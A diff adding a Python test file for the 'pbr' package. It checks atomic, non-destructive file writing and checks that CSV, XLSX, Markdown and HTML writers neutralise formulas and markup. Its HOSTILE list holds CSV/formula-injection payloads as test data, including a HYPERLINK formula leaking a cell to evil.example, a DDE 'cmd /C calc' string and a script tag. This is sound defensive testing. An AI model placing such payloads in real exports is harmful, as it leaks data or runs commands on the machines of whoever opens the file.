@@ -1,0 +1,421 @@
+"""Safe writing: nothing at a path is destroyed, and no writer lets a formula or markup through."""
+
+from __future__ import annotations
+
+import csv
+import errno
+import io
+import os
+import signal
+import stat
+import subprocess
+import sys
+import threading
+import time
+from datetime import date
+from decimal import Decimal
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+import pbr
+from pbr.cli import main
+from pbr.output import (
+    OutputError,
+    atomic_writer,
+    markdown_text,
+    neutralise,
+    restore,
+    write_decisions,
+)
+
+from .builders import record
+
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")
+
+
+def temp_files(folder: Path) -> list[Path]:
+    return [p for p in folder.iterdir() if p.name.endswith(".pbr-tmp")]
+
+
+def test_a_regular_file_is_replaced_keeping_its_mode(tmp_path: Path) -> None:
+    target = tmp_path / "out.csv"
+    target.write_text("old\n")
+    target.chmod(0o640)
+    inode = target.stat().st_ino
+    with atomic_writer(target) as handle:
+        handle.write("new\n")
+    assert target.read_text() == "new\n"
+    assert stat.S_IMODE(target.stat().st_mode) == 0o640
+    assert target.stat().st_ino != inode  # replaced, not rewritten in place
+    assert temp_files(tmp_path) == []
+
+
+def test_a_new_file_follows_the_umask(tmp_path: Path) -> None:
+    old = os.umask(0o027)
+    try:
+        with atomic_writer(tmp_path / "new.txt") as handle:
+            handle.write("x")
+    finally:
+        os.umask(old)
+    assert stat.S_IMODE((tmp_path / "new.txt").stat().st_mode) == 0o640  # not 0600
+
+
+def test_a_symlink_is_written_through_to_its_target(tmp_path: Path) -> None:
+    (tmp_path / "real.txt").write_text("old")
+    link = tmp_path / "link.txt"
+    link.symlink_to("real.txt")
+    with atomic_writer(link) as handle:
+        handle.write("new")
+    assert link.is_symlink()
+    assert (tmp_path / "real.txt").read_text() == "new"
+    dangling = tmp_path / "dangling.txt"
+    dangling.symlink_to("made-now.txt")
+    with atomic_writer(dangling) as handle:
+        handle.write("made")
+    assert dangling.is_symlink()
+    assert (tmp_path / "made-now.txt").read_text() == "made"
+
+
+def test_a_fifo_is_written_directly(tmp_path: Path) -> None:
+    fifo = tmp_path / "pipe"
+    os.mkfifo(fifo)
+    got: list[str] = []
+    reader = threading.Thread(target=lambda: got.append(fifo.read_text()))
+    reader.start()
+    with atomic_writer(fifo) as handle:
+        handle.write("through the pipe\n")
+    reader.join(10)
+    assert got == ["through the pipe\n"]
+    assert stat.S_ISFIFO(fifo.stat().st_mode)
+    assert temp_files(tmp_path) == []
+
+
+def test_a_device_node_is_written_and_kept(tmp_path: Path) -> None:
+    null = tmp_path / "null"
+    try:
+        os.mknod(null, stat.S_IFCHR | 0o666, os.makedev(1, 3))  # a /dev/null of our own
+    except (PermissionError, OSError):
+        pytest.skip("making a device node needs root")
+    write_decisions([], null, "csv")
+    assert stat.S_ISCHR(null.stat().st_mode)  # still the device, not a regular file
+    assert temp_files(tmp_path) == []
+
+
+def test_dev_full_is_a_clear_error() -> None:
+    if not Path("/dev/full").exists():
+        pytest.skip("no /dev/full")
+    with (
+        pytest.raises(OutputError, match="cannot write /dev/full: No space left on device"),
+        atomic_writer("/dev/full") as handle,
+    ):
+        handle.write("x" * 100_000)
+
+
+def test_dash_is_standard_output(capsys: pytest.CaptureFixture[str]) -> None:
+    with atomic_writer("-") as handle:
+        handle.write("to stdout\n")
+    assert capsys.readouterr().out == "to stdout\n"
+
+
+def test_a_folder_or_a_missing_folder_is_a_clear_error(tmp_path: Path) -> None:
+    with pytest.raises(OutputError, match="it is a folder"), atomic_writer(tmp_path):
+        pass
+    with pytest.raises(OutputError, match="does not exist"), atomic_writer(tmp_path / "x" / "y"):
+        pass
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_cli_output_errors_are_one_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    families = str(Path(__file__).resolve().parents[1] / "examples" / "families.jsonl")
+    for target, why in ((tmp_path, "it is a folder"), (tmp_path / "x" / "y.csv", "not exist")):
+        status = main(["evaluate", families, "--as-of", "2015-03-31", "--output", str(target)])
+        err = capsys.readouterr().err
+        assert status == 2
+        assert err.startswith(f"pbr: cannot write {target}: ")
+        assert why in err
+        assert "Traceback" not in err
+
+
+def test_a_failure_inside_leaves_the_old_file_and_no_temporary(tmp_path: Path) -> None:
+    target = tmp_path / "out.txt"
+    target.write_text("old")
+
+    def fail() -> None:
+        with atomic_writer(target) as handle:
+            handle.write("half")
+            raise RuntimeError("boom")
+
+    with pytest.raises(RuntimeError):
+        fail()
+    assert target.read_text() == "old"
+    assert temp_files(tmp_path) == []
+
+
+def test_disk_full_leaves_the_old_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    target = tmp_path / "out.txt"
+    target.write_text("old")
+
+    def full(fd: int) -> None:
+        raise OSError(errno.ENOSPC, "No space left on device")
+
+    monkeypatch.setattr(os, "fsync", full)
+    with pytest.raises(OutputError, match="No space left on device"), atomic_writer(target) as out:
+        out.write("new")
+    assert target.read_text() == "old"
+    assert temp_files(tmp_path) == []
+
+
+def test_disk_full_on_a_real_small_filesystem(tmp_path: Path) -> None:
+    mount = tmp_path / "small"
+    mount.mkdir()
+    if (
+        os.geteuid() != 0
+        or subprocess.run(
+            ["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", str(mount)], capture_output=True
+        ).returncode
+    ):
+        pytest.skip("mounting a small tmpfs needs root")
+    try:
+        target = mount / "out.bin"
+        target.write_bytes(b"old")
+        with (
+            pytest.raises(OutputError, match="No space left on device"),
+            atomic_writer(target, "wb") as handle,
+        ):
+            handle.write(b"x" * 200_000)
+        assert target.read_bytes() == b"old"
+        assert temp_files(mount) == []
+    finally:
+        subprocess.run(["umount", str(mount)], check=True)
+
+
+WRITER = """
+import sys, time
+from pbr.output import atomic_writer
+with atomic_writer(sys.argv[1]) as handle:
+    handle.write("half written")
+    handle.flush()
+    print("writing", flush=True)
+    time.sleep(60)
+"""
+
+
+@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGINT, signal.SIGKILL])
+def test_an_interrupted_write_leaves_the_old_file(tmp_path: Path, sig: int) -> None:
+    target = tmp_path / "out.txt"
+    target.write_text("old")
+    child = subprocess.Popen(
+        [sys.executable, "-c", WRITER, str(target)],
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+    )
+    assert child.stdout is not None
+    assert child.stdout.readline() == "writing\n"
+    assert len(temp_files(tmp_path)) == 1  # the new file is being written beside the old
+    child.send_signal(sig)
+    child.communicate(timeout=30)
+    assert target.read_text() == "old"
+    if sig != signal.SIGKILL:
+        assert temp_files(tmp_path) == []  # removed on the way out
+        assert child.returncode != 0
+    else:  # nothing runs after SIGKILL: the next write to the same path removes it
+        with atomic_writer(target) as handle:
+            handle.write("new")
+        assert temp_files(tmp_path) == []
+        assert target.read_text() == "new"
+
+
+def test_a_live_writers_temporary_file_is_not_swept(tmp_path: Path) -> None:
+    target = tmp_path / "out.txt"
+    with atomic_writer(target) as outer:
+        outer.write("outer")
+        with atomic_writer(target) as inner:  # same process: its temporary file is alive
+            inner.write("inner")
+        assert len(temp_files(tmp_path)) == 1
+    assert target.read_text() == "outer"
+
+
+# --- formulas and markup ------------------------------------------------------------------------
+
+
+@given(st.text())
+def test_neutralise_is_safe_and_reversible(text: str) -> None:
+    safe = neutralise(text)
+    assert restore(safe) == text
+    if safe.lstrip(" ").startswith(TRIGGERS):
+        assert safe.lstrip("+-").replace(".", "", 1).isdigit()  # only a plain number
+
+
+@given(st.text())
+def test_markdown_text_is_inert(text: str) -> None:
+    safe = markdown_text(text)
+    assert "<" not in safe
+    assert ">" not in safe
+    assert "\n" not in safe
+    unescaped = safe.replace("\\\\", "")
+    for special in "|*_`[]":
+        assert unescaped.count(special) == unescaped.count("\\" + special)
+
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1",
+    "-2-3",
+    "\t=1+1",
+    "\r=1+1",
+    " =1+1",
+    "<script>alert(1)</script>",
+    "*bold* | [link](http://evil.example) `code`",
+]
+
+
+def hostile_claims(tmp_path: Path) -> Path:
+    """A claim file whose claim ids are hostile, over a real family."""
+    path = tmp_path / "claims.csv"
+    with open(path, "w", newline="", encoding="utf-8") as handle:
+        writer = csv.writer(handle)
+        writer.writerow(["claim_id", "family_id", "kind", "amount", "claimed_on", "window"])
+        for i, claim_id in enumerate(HOSTILE):
+            writer.writerow([claim_id, "T1", "attachment_fee", "3200.00", "2012-11-01", claim_id])
+            writer.writerow([f"{claim_id}#{i}", "-1-1", "bonus", "1", "2012-11-01", ""])
+    return path
+
+
+def assert_no_formula(cells: list[str], where: str) -> None:
+    for cell in cells:
+        assert not cell.lstrip(" ").startswith(TRIGGERS), (where, cell)
+
+
+def csv_cells(text: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+
+def xlsx_cells(path: Path) -> list[str]:
+    from openpyxl import load_workbook
+
+    book = load_workbook(path)
+    cells = []
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (path, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    cells.append(cell.value)
+    return cells
+
+
+def test_hostile_ids_through_every_writer(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    pytest.importorskip("openpyxl")
+    from pbr.audit import verify, write_report
+    from pbr.ledger import Entry, Ledger
+    from pbr.tables import write_tables
+
+    family = pbr.Family.model_validate(
+        record(
+            family_id="-1-1",
+            local_authority="=cmd|' /C calc'!A0",
+            payments=[{"kind": "attachment_fee", "amount": "3200", "claim_id": HOSTILE[0]}],
+        )
+    )
+    decision = pbr.evaluate(family, as_of=date(2013, 7, 31))
+    checked: list[str] = []
+
+    write_decisions([decision], tmp_path / "d.csv")
+    assert_no_formula(csv_cells((tmp_path / "d.csv").read_text()), "decisions csv")
+    write_decisions([decision], tmp_path / "d.xlsx")
+    assert_no_formula(xlsx_cells(tmp_path / "d.xlsx"), "decisions xlsx")
+    (tmp_path / "f.jsonl").write_text(family.model_dump_json() + "\n")
+    main(["evaluate", str(tmp_path / "f.jsonl"), "--as-of", "2013-07-31", "--format", "csv"])
+    assert_no_formula(csv_cells(capsys.readouterr().out), "evaluate --format csv")
+    checked += ["decisions csv", "decisions xlsx", "evaluate --format csv"]
+
+    write_tables([family], tmp_path / "tables")
+    for table in (tmp_path / "tables").glob("*.csv"):
+        assert_no_formula(csv_cells(table.read_text()), table.name)
+    write_tables([family], tmp_path / "tables.xlsx")
+    assert_no_formula(xlsx_cells(tmp_path / "tables.xlsx"), "tables xlsx")
+    checked += ["tables csv", "tables xlsx"]
+
+    result = verify(hostile_claims(tmp_path), [family.model_copy(update={"family_id": "T1"})])
+    assert len(result.checks) == len(HOSTILE)
+    assert len(result.rejections) == len(HOSTILE)
+    for suffix in (".csv", ".xlsx", ".md", ".html"):
+        path = write_report(result, tmp_path / f"audit{suffix}")
+        if suffix == ".csv":
+            assert_no_formula(csv_cells(path.read_text()), "audit csv")
+            back = [r["claim_id"] for r in csv.DictReader(io.StringIO(path.read_text()))]
+            expected = [h.strip() for h in HOSTILE]  # a claim file's cells are trimmed
+            assert [restore(c) for c in back[: len(HOSTILE)]] == expected  # nothing lost
+        elif suffix == ".xlsx":
+            assert_no_formula(xlsx_cells(path), "audit xlsx")
+        else:
+            text = path.read_text()
+            assert "<script>" not in text
+            assert "&lt;script&gt;" in text
+            if suffix == ".md":
+                assert "[link](http" not in text
+                for line in text.splitlines():
+                    if line.startswith("| "):
+                        assert_no_formula([c.strip() for c in line.split(" | ")], "audit md")
+        checked.append(f"audit {suffix}")
+
+    ledger = Ledger(tmp_path / "l.db")
+    ledger.append(
+        Entry("T1", "attachment_fee", Decimal(1), date(2013, 1, 1), claim_id, "v")
+        for claim_id in HOSTILE
+    )
+    ledger.export_csv(tmp_path / "ledger.csv")
+    assert_no_formula(csv_cells((tmp_path / "ledger.csv").read_text()), "ledger export")
+    copy = Ledger(tmp_path / "copy.db")
+    copy.import_csv(tmp_path / "ledger.csv")
+    assert [e.claim_id for _, e in copy.entries()] == HOSTILE  # the round trip is exact
+    checked.append("ledger export")
+    assert len(checked) == 10
+
+
+# --- pbr template -------------------------------------------------------------------------------
+
+
+def test_template_never_truncates_a_table_with_rows(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    folder = tmp_path / "tables"
+    folder.mkdir()
+    (folder / "families.csv").write_text("family_id,attached_on\nF1,2013-01-01\n")
+    (folder / "members.csv").write_text("family_id,person_id\n")  # a header only: rewritten
+    (folder / "README.md").write_text("# Our own notes\n")
+    status = main(["template", str(folder)])
+    out, err = capsys.readouterr()
+    assert status == 0
+    assert (folder / "families.csv").read_text() == "family_id,attached_on\nF1,2013-01-01\n"
+    assert (folder / "README.md").read_text() == "# Our own notes\n"
+    assert (folder / "members.csv").read_text().startswith("family_id,person_id,date_of_birth")
+    assert f"kept {folder / 'families.csv'}: it already has rows" in err
+    assert str(folder / "families.csv") not in out
+    assert str(folder / "members.csv") in out
+    main(["template", str(folder)])  # twice is harmless
+    assert (folder / "families.csv").read_text() == "family_id,attached_on\nF1,2013-01-01\n"
+
+
+def test_a_slow_reader_of_a_fifo_gets_everything(tmp_path: Path) -> None:
+    fifo = tmp_path / "pipe"
+    os.mkfifo(fifo)
+    got: list[bytes] = []
+
+    def read() -> None:
+        time.sleep(0.2)
+        got.append(fifo.read_bytes())
+
+    reader = threading.Thread(target=read)
+    reader.start()
+    with atomic_writer(fifo, "wb") as handle:
+        handle.write(b"x" * 300_000)
+    reader.join(10)
+    assert got == [b"x" * 300_000]
